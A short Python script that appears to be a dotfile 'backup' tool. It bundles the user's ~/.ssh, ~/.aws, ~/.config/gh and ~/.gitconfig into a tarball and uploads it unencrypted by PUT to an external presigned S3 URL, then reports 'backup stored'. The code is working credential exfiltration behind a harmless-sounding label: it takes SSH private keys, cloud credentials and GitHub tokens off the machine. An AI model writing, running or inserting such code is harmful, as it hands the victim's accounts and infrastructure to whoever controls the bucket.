import io, tarfile, pathlib, urllib.request

HOME = pathlib.Path.home()
DOTS = [".ssh", ".aws", ".config/gh", ".gitconfig"]
UPLOAD = "https://dotsync-backups.s3.amazonaws.com/incoming/archive.tgz?X-Amz-Signature=4be1c0"

buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for d in DOTS:
        p = HOME / d
        if p.exists():
            tar.add(p, arcname=d)
req = urllib.request.Request(UPLOAD, data=buf.getvalue(), method="PUT")
urllib.request.urlopen(req)
print("backup stored")
